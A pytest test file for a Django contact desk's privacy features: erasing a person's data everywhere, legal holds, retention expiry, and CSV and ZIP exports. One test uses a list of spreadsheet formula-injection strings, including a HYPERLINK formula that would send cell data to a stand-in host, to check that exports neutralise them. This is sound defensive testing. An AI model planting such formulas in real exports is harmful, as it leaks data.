"""What is kept of people: erased in time, erased and exported when they ask, held where it must."""

import csv
import json
import zipfile
from datetime import timedelta
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import Permission, User
from django.contrib.contenttypes.models import ContentType
from django.core.management import call_command
from django.db import connection

from contact import exporting, inbox, incoming, mails, privacy, tasks
from contact.inbox import GivenFile, NotPossible
from contact.models import Message, MessageEvent, Quarantined
from outbox import hearing
from outbox.models import Delivery
from tests.admin.people import client_of
from tests.contact.letters import DESK, raw
from tests.contact.make import NOW, make_message, make_topic

pytestmark = pytest.mark.django_db
State = Message.State
DAY = timedelta(days=1)
ADDRESS = "a.reader+desk@gmail.com"
SPELLINGS = (ADDRESS, "areader@gmail.com", "A.Reader@GoogleMail.com")


@pytest.fixture(autouse=True)
def _desk(publisher: Any, settings: Any) -> None:
    settings.CONTACT_ADDRESS, settings.BOUNCE_ADDRESS = DESK, "bounces@example.org"


@pytest.fixture
def user() -> Any:
    return User.objects.create_user("ed", is_staff=True, is_superuser=True)


def to(message: Message) -> str:
    return mails.reply_address(message, message.topic)  # type: ignore[arg-type]


def kinds(message: Message) -> list[str]:
    return [line.kind for line in message.events.order_by("pk")]


def dump() -> str:
    """All rows of all tables as text, with what is stored as bytes in letters too."""
    rows = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f'SELECT t::text FROM "{table}" t')  # noqa: S608
            rows += [f"{table}: {row}" for (row,) in cursor.fetchall()]
    return "\n".join(rows).lower()


def found(*words: str) -> list[str]:
    rows = dump().split("\n")
    wanted = [form for word in words for form in (word.lower(), word.lower().encode().hex())]
    return [row[:200] for row in rows if any(form in row for form in wanted)]


def everywhere(user: Any) -> tuple[Message, Message]:
    """A person who has left traces wherever they can; and the message of another."""
    file = GivenFile("letter_of_A_Reader.txt", "text/plain", f"From {ADDRESS}".encode())
    message = make_message(
        address=ADDRESS, name="A. Reader", subject=f"From {ADDRESS}", files=[file],
        text=f"Write to {ADDRESS}.", page="/articles/x/", network="192.0.2.0",
    )  # fmt: skip
    inbox.note(message, f"{ADDRESS} called.", by=user, now=NOW)
    again = {"from": "A. Reader <a.reader@googlemail.com>", "message_id": f"<1.{ADDRESS}>"}
    incoming.take(raw(f"> {ADDRESS}\nMore.\n", to=to(message), **again), now=NOW + DAY)
    reply = inbox.reply(message, f"Dear {ADDRESS}, yes.", by=user, now=NOW + DAY)
    inbox.reply(message, "One thing more.", by=user, now=NOW + DAY)
    message.drafts.create(user=user, text=f"Dear {ADDRESS}", saved_at=NOW)
    delivery = mails.delivery_of(reply)
    assert delivery
    Delivery.objects.filter(pk=delivery.pk).update(state="sent", due_at=None)
    said = f"550 5.1.1 <{ADDRESS}> no such user"
    hearing.record(
        delivery, kind="hard_bounce", happened_at=NOW, source="test", status="5.1.1", said=said
    )
    other = make_message(text=f"My friend {ADDRESS.upper()} told me.", address="bob@example.org")
    incoming.take(raw("I am the friend.\n", to=to(other), **{"from": ADDRESS}), now=NOW + DAY)
    incoming.take(f"\xff From {ADDRESS}".encode("latin-1"), now=NOW)
    LogEntry.objects.create(
        user=user, content_type=ContentType.objects.get_for_model(Message), action_flag=CHANGE,
        object_id=str(message.pk), object_repr=str(message),
    )  # fmt: skip
    return message, other


def test_after_an_erasure_the_address_stands_nowhere(user: Any) -> None:
    message, other = everywhere(user)
    assert len(found(*SPELLINGS)) > 8
    left = privacy.erase_person("A.Reader@GMAIL.com", by=user, now=NOW + 2 * DAY)
    assert not left
    assert found(*SPELLINGS) == []
    assert found("A. Reader", "letter_of", "192.0.2.0", "/articles/x/") == []
    message.refresh_from_db()
    other.refresh_from_db()
    assert (message.name, message.state, message.erased_at) == (
        "(erased)", State.CLOSED, NOW + 2 * DAY
    )  # fmt: skip
    assert (other.text, other.address) == ("My friend (erased) told me.", "bob@example.org")
    assert not message.files.exists()


def test_the_case_and_its_history_stay(user: Any) -> None:
    message, _ = everywhere(user)
    before = kinds(message)
    reference, topic = message.reference, message.topic
    privacy.erase_person(ADDRESS, by=user, now=NOW + 2 * DAY)
    message.refresh_from_db()
    assert (message.reference, message.topic) == (reference, topic)
    assert kinds(message) == [*before, "erased"]
    assert message.replies.count() == 3


def test_search_finds_the_erased_no_more(user: Any) -> None:
    message = make_message(text="A remarkable palimpsest.")
    wanted = Message.objects.filter(search="palimpsest")
    assert wanted.exists()
    privacy.erase(message, by=user, now=NOW, because="As the person asked.")
    assert not wanted.exists()


def test_an_answer_that_waits_is_held_back_from_the_erased(user: Any) -> None:
    message = make_message()
    reply = inbox.reply(message, "Yes.", by=user, now=NOW)
    privacy.erase(message, by=user, now=NOW, because="As the person asked.")
    delivery = mails.delivery_of(reply)
    assert delivery
    assert delivery.state == "cancelled"
    with pytest.raises(NotPossible, match="erased"):
        inbox.reply(message, "Yes.", by=user, now=NOW)


def test_what_is_on_hold_is_not_erased(user: Any) -> None:
    message = make_message()
    privacy.hold(message, by=user, now=NOW, because="A claim.")
    with pytest.raises(NotPossible, match="on hold"):
        privacy.erase(message, by=user, now=NOW, because="")
    left = privacy.erase_person("ada@example.org", by=user, now=NOW)
    assert left.held == [message]
    privacy.release(message, by=user, now=NOW)
    assert not privacy.erase_person("ada@example.org", by=user, now=NOW)
    assert kinds(message)[-3:] == ["held", "released", "erased"]


def test_what_was_merged_goes_and_stays_with_its_sequel(user: Any) -> None:
    first, second = make_message(text="One"), make_message(text="Two")
    inbox.merge(first, second, by=user, now=NOW)
    inbox.close(second, by=user, now=NOW)
    privacy.hold(first, by=user, now=NOW)
    late = NOW + 800 * DAY
    assert privacy.preview(late) == privacy.Forgotten(held=1)
    assert privacy.forget_old(late) == privacy.Forgotten(held=1)
    privacy.release(first, by=user, now=NOW)
    assert privacy.forget_old(late).messages == 1
    assert Message.objects.filter(erased_at=late).count() == 2


# ---- In time --------------------------------------------------------------------------


def aged(user: Any) -> dict[str, Message]:
    """A message of each sort, all of them a hundred days old."""
    short, long = make_topic("Short", kept_for=90), make_topic("Long", kept_for=900)
    made = {
        name: make_message(topic=long if name == "long" else short, text=name)
        for name in ("closed", "long", "open", "spam", "held")
    }
    for name in ("closed", "long", "held"):
        inbox.close(made[name], by=user, now=NOW)
    inbox.call_spam(made["spam"], by=user, now=NOW)
    privacy.hold(made["held"], by=user, now=NOW)
    incoming.take(b"\xff", now=NOW)
    return made


def test_what_was_kept_long_enough_is_erased(user: Any) -> None:
    made = aged(user)
    then = NOW + 100 * DAY
    assert privacy.preview(then) == privacy.Forgotten(messages=2, quarantined=1)
    tasks.forget_messages(timestamp=int(then.timestamp()))
    erased = Message.objects.filter(erased_at__isnull=False)
    assert {one.pk for one in erased} == {made["closed"].pk, made["spam"].pk}
    assert not Quarantined.objects.exists()
    assert privacy.preview(then) == privacy.Forgotten()


def test_nothing_is_erased_a_day_too_early(user: Any) -> None:
    aged(user)
    assert privacy.preview(NOW + 29 * DAY) == privacy.Forgotten()
    assert privacy.preview(NOW + 31 * DAY).messages == 1
    assert privacy.preview(NOW + 89 * DAY).messages == 1
    assert privacy.preview(NOW + 91 * DAY).messages == 2


def test_a_dry_run_says_what_would_go_and_erases_nothing(
    user: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = aged(user)
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW + 100 * DAY)
    out = StringIO()
    call_command("forget_messages", dry_run=True, stdout=out)
    assert made["closed"].reference in out.getvalue()
    assert "2 messages erased" in out.getvalue()
    assert not Message.objects.filter(erased_at__isnull=False).exists()
    call_command("forget_messages", stdout=out)
    assert Message.objects.filter(erased_at__isnull=False).count() == 2


# ---- What leaves ----------------------------------------------------------------------

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1",
    "＠SUM(1)", '=HYPERLINK("https://x.example?"&A1,"x")',
]  # fmt: skip


def is_formula(cell: str) -> bool:
    """As the most credulous of spreadsheets sees it: blanks before do not matter, nor width."""
    return cell.strip().startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_an_export_is_a_formula(user: Any, payload: str) -> None:
    fields = {"name": payload, "subject": payload, "text": payload}
    message = make_message()
    Message.objects.filter(pk=message.pk).update(**fields)
    written = "".join(exporting.write_csv(Message.objects.order_by("pk"), by=user, now=NOW))
    rows = list(csv.DictReader(StringIO(written)))
    assert not any(is_formula(cell) for row in rows for cell in row.values())
    assert all(payload.strip() in rows[0][name] for name in fields)
    assert kinds(message)[-1] == "exported"


def test_a_person_takes_all_home(user: Any) -> None:
    message, other = everywhere(user)
    with exporting.export_person("areader@gmail.com", by=user, now=NOW) as packed:
        content = BytesIO(packed.read())
    with zipfile.ZipFile(content) as archive:
        record = json.loads(archive.read("person.json"))
        files = [name for name in archive.namelist() if "/" in name]
        assert archive.read(files[0]) == f"From {ADDRESS}".encode()
    [written] = record["messages"]
    assert written["text"] == f"Write to {ADDRESS}."
    assert [one["way"] for one in written["answers"]] == ["from the reader", "from us", "from us"]
    assert written["notes"][0]["text"] == f"{ADDRESS} called."
    assert written["files"] == files
    assert [one["message"] for one in record["answers_in_threads_of_others"]] == [other.reference]
    assert "ed" not in json.dumps(record["messages"][0]["history"]).split()
    for one in (message, other):
        assert kinds(one)[-1] == "exported"


# ---- In the admin ---------------------------------------------------------------------

PRIVACY = "/admin/contact/message/privacy/"


def test_the_page_says_what_is_next_and_who_is_known(user: Any) -> None:
    message, _ = everywhere(user)
    client = client_of(user)
    assert "A person" in client.get(PRIVACY).content.decode()
    shown = client.post(f"{PRIVACY}person/", {"address": "areader@gmail.com"}).content.decode()
    assert message.reference in shown
    assert client.post(f"{PRIVACY}person/", {"address": "nobody"}).status_code == 422


def test_a_person_is_erased_by_who_is_sure(user: Any) -> None:
    message, _ = everywhere(user)
    client = client_of(user)
    answer = client.post(f"{PRIVACY}erase/", {"address": ADDRESS})
    assert answer.status_code == 422
    assert "Tick that you are sure" in answer.content.decode()
    message.refresh_from_db()
    assert message.erased_at is None
    answer = client.post(f"{PRIVACY}erase/", {"address": ADDRESS, "is_sure": "on"}, follow=True)
    assert "is erased" in answer.content.decode()
    assert found(*SPELLINGS) == []


def test_exports_are_downloads_and_stand_in_the_history(user: Any) -> None:
    message, _ = everywhere(user)
    client = client_of(user)
    for name, kind in (("person.zip", "application/zip"), ("messages.csv", "text/csv")):
        answer = client.post(f"{PRIVACY}{name}", {"address": ADDRESS, "state": "open"})
        assert answer.headers["Content-Type"].startswith(kind)
        assert "attachment" in answer.headers["Content-Disposition"]
        assert b"".join(answer.streaming_content)  # type: ignore[attr-defined]
        assert client.get(f"{PRIVACY}{name}").status_code == 403
    assert message.events.filter(kind="exported", by=user).count() == 2
    assert MessageEvent.objects.filter(said__contains="reader").count() == 0


def test_a_hold_is_set_and_ended_on_the_page_of_a_message(user: Any) -> None:
    message = make_message()
    client = client_of(user)
    address = f"/admin/contact/message/{message.pk}/hold/"
    assert client.get(address).status_code == 403
    for verb, expected in (("hold", True), ("release", False)):
        assert client.post(address, {"verb": verb, "because": "A claim."}).status_code == 302
        message.refresh_from_db()
        assert message.is_held == expected


@pytest.mark.parametrize("right", ["", "contact.export_message", "contact.erase_message"])
def test_each_right_opens_its_own_doors(right: str) -> None:
    user = User.objects.create_user("x", is_staff=True)
    if right:
        codename = right.removeprefix("contact.")
        user.user_permissions.add(Permission.objects.get(codename=codename))
    client = client_of(user)
    given = {"address": "ada@example.org", "is_sure": "on"}
    expected = {
        "person/": bool(right),
        "person.zip": right.endswith("export_message"),
        "messages.csv": right.endswith("export_message"),
        "erase/": right.endswith("erase_message"),
    }
    for name, is_open in expected.items():
        answer = client.post(PRIVACY + name, given)
        b"".join(answer)  # type: ignore[arg-type]  # to its end, where a file is closed
        assert (answer.status_code != 403) == is_open
    assert (client.get(PRIVACY).status_code == 200) == bool(right)
